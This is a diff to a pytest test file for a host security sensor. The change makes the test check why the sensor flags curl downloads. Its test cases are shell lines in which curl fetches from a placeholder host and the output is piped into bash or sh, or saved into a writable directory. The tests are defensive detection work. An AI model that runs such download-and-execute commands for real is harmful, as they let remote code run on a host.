@@ -86,15 +86,19 @@ def test_public_ip_and_renamed_copy_are_detected(sensor: Sensor, workdir: Path) 
     assert hit["utility"] == "netcat" and hit["path"] == str(copy)
 
 
-@pytest.mark.parametrize("shell", ["bash <(curl --version http://example.test/{tag})",
-                                   'sh -c "$(curl --version http://example.test/{tag})"',
-                                   "curl --version -sSLo {drop}/k http://example.test/{tag}"],
-                         ids=["process-substitution", "command-substitution", "bundled-output-flag"])
-def test_downloads_run_by_a_shell_or_saved_to_a_writable_directory_are_detected(sensor: Sensor, workdir: Path, shell: str) -> None:
+@pytest.mark.parametrize(
+    ("shell", "how"),
+    [("bash <(curl --version http://example.test/{tag})", "is run by an interpreter through its parent's <(...) or $(...)"),
+     ('sh -c "$(curl --version http://example.test/{tag})"', "is run by an interpreter through its parent's <(...) or $(...)"),
+     ("curl --version -sSLo {drop}/k http://example.test/{tag}", "writes the download into a writable directory")],
+    ids=["process-substitution", "command-substitution", "bundled-output-flag"],
+)
+def test_downloads_run_by_a_shell_or_saved_to_a_writable_directory_are_detected(
+        sensor: Sensor, workdir: Path, shell: str, how: str) -> None:
     tag = uuid.uuid4().hex[:10]
     subprocess.run(["bash", "-c", shell.format(tag=tag, drop=workdir)], capture_output=True, timeout=10)
     (hit,) = detections(sensor, "netutil_ingress_tool_transfer", tag)
-    assert hit["utility"] == "curl" and hit["how"]
+    assert hit["utility"] == "curl" and hit["how"] == how
 
 
 def test_a_container_is_detected_as_a_container(sensor: Sensor, workdir: Path) -> None:
